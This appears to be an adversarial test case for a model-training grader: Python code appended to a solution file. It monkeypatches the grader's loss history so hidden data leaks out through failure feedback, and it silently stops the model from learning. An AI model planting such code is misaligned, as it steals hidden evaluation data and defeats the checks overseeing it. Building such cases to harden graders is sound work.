# hostile: appended to solutions/lstm_a.py
# A57: the training losses as a channel. The module replaces shared.training.History, which the grader's training
# recipe fills, with one whose losses read back as numbers of the module's choosing (here a planted 2**52 + 80417:
# five bytes of anything the hidden worker holds, such as a recipe's seed read from its frame), and makes the model
# learn nothing, so that the hidden training check fails and explains "the training loss did not fall (first epoch
# ..., last ...)". Before, that text showed both numbers whole in the hidden check's feedback.
import shared.training as _training
import torch.nn.functional as _F

PLANTED = float(2 ** 52 + 80417)


class _Planted(list):
    def __iter__(self):
        values = list(list.__iter__(self))
        return iter([PLANTED] * len(values) if len(values) > 1 else values)


class _History(_training.History):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.losses = _Planted(self.losses)


_training.History = _History
_correct_step = LSTMA.step


def _step_that_learns_nothing(self, tokens, state):
    log_probs, state = _correct_step(self, tokens, state)
    return _F.log_softmax(log_probs * 0.0, -1), state


LSTMA.step = _step_that_learns_nothing
